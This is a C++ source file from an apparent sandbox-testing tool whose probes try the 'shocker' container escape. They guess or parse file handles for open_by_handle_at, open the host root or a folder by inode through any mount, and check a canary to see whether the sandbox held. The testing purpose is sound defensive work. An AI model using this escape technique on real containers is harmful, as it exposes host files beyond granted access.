// Files by number: open_by_handle_at takes what identifies a file on its file system, and asks for no path.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <cerrno>
#include <cstdint>
#include <cstdlib>
#include <cstring>

#include "probes/inside.h"
#include "probes/root/mount_table.h"

namespace immure::probes {
namespace {

constexpr unsigned kMostBytes = 128;    // MAX_HANDLE_SZ
constexpr int kInodeAndGeneration = 1;  // FILEID_INO32_GEN; generation 0 is taken for any

struct Handle {  // struct file_handle
  unsigned bytes;
  int type;
  unsigned char data[kMostBytes];
};

struct Search {
  const Yard* yard;
  Handle handles[2];
  bool is_top;
  Attempt attempt;
};

Handle guessed(uint32_t inode) {
  Handle handle{sizeof inode * 2, kInodeAndGeneration, {}};
  std::memcpy(handle.data, &inode, sizeof inode);
  return handle;
}

// TYPE:HEX, as the host has it; no bytes when it has none.
Handle known(const char* text) {
  Handle handle{};
  char* at = nullptr;
  handle.type = static_cast<int>(std::strtol(text, &at, 10));
  if (*at != ':') return handle;
  for (++at; at[0] != '\0' && at[1] != '\0' && handle.bytes < kMostBytes; at += 2) {
    const char digits[] = {at[0], at[1], '\0'};
    handle.data[handle.bytes++] = static_cast<unsigned char>(std::strtoul(digits, nullptr, 16));
  }
  return handle;
}

int open_any(int at, Search* search) {
  for (Handle& handle : search->handles) {
    if (handle.bytes == 0) continue;
    int fd = static_cast<int>(syscall(SYS_open_by_handle_at, at, &handle, O_RDONLY | O_CLOEXEC));
    if (fd >= 0 || errno == EPERM) return fd;
  }
  return -1;
}

bool by_mount(const MountLine& line, void* data) {
  auto* search = static_cast<Search*>(data);
  int at = open(line.target, O_RDONLY | O_CLOEXEC | O_NONBLOCK | O_NOCTTY);
  if (at < 0) return false;
  int fd = open_any(at, search);
  int error = errno;
  close(at);
  if (fd < 0) {
    if (search->attempt.error != EPERM) search->attempt = stopped("open_by_handle_at", error);
    return false;
  }
  const char* last = std::strrchr(search->yard->canary, '/');
  const char* path = search->is_top    ? search->yard->canary + 1
                     : last == nullptr ? search->yard->canary
                                       : last + 1;
  Attempt seen = read_canary_at(fd, path, "openat");
  close(fd);
  if (seen.outcome == Outcome::Escaped) search->attempt = seen;
  return seen.outcome == Outcome::Escaped;
}

Attempt try_handle(const Yard& yard, const Probe& row) {
  const bool is_top = row.number != 0;
  Search search{&yard, {}, is_top, {}};
  search.handles[0] = guessed(static_cast<uint32_t>(is_top ? row.number : yard.inode));
  search.handles[1] = known(is_top ? yard.handle_top : yard.handle);
  search.attempt = stopped("open_by_handle_at", ESTALE);
  // With no /proc the root alone.
  if (each_mount(by_mount, &search) < 0) by_mount({"/", ""}, &search);
  return search.attempt;
}

constexpr uint32_t kWalls = by(Layer::Capabilities, Layer::Seccomp, Layer::UserNs, Layer::Landlock);
constexpr Probe kHandles[] = {
    {"handle-top", Category::Descriptors, "the host's root by its inode number",
     "The root of an ext4 file system is inode 2. open_by_handle_at opens it through any mount of that file "
     "system, be it the bind of one file, and from there every path of the host is open. Docker fell to it "
     "in 2014, when CAP_DAC_READ_SEARCH was still left to containers; the program was called shocker.",
     "open_by_handle_at(2)", kWalls, Proof::Line, kBare, try_handle, kPlain, "", 2},
    {"handle-folder", Category::Descriptors, "a folder outside by its inode number",
     "The same for the inode of the yard's own folder. Numbers of inodes are small and easily gone through, "
     "and generation 0 fits every file of ext4. Of other file systems the attempt knows the handle already.",
     "open_by_handle_at(2)", kWalls, Proof::Line, kBare, try_handle},
};

}  // namespace

std::span<const Probe> handles() { return kHandles; }

}  // namespace immure::probes
